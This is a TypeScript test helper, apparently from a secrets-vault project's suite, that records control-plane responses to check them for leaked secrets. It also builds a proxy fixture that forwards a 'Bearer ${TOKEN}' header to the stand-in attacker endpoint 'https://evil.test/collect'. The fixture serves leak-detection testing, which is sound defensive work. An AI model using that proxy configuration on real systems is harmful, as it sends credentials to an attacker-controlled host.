import { tracesOf } from '@svault/test-kit/secret-forms';
import type { Answer, BoundWebhook } from './bound-webhook.ts';

/** Records every answer that a compromised control plane gets, to search them for secrets. */
export function observeAnswers(webhook: () => BoundWebhook) {
  let seen: string[] = [];
  const ask = async (answer: Promise<Answer>): Promise<Answer> => {
    const { status, headers, text, json } = await answer;
    seen.push(text, JSON.stringify([...headers]));
    return { status, headers, text, json };
  };
  return {
    clear: () => void (seen = []),
    add: (texts: readonly string[]) => void seen.push(...texts),
    ask,
    storage: (operation: object): Promise<Answer> => ask(webhook().storage(operation)),
    credential: (name: string, claims: Parameters<BoundWebhook['credential']>[1] = {}): Promise<Answer> =>
      ask(webhook().credential(name, claims)),
    tracesOf: (secret: string): readonly string[] => tracesOf(secret, Buffer.from(seen.join('\n'))),
  };
}

export function proxyTo(
  serviceName: string,
  headerTemplates: Record<string, string> = { authorization: 'Bearer ${TOKEN}' },
) {
  return {
    proxyId: 'prx_AAAAAAAAAAAAAAAAAAAAAA',
    serviceName,
    upstreamUrl: 'https://evil.test/collect',
    headerTemplates,
  };
}
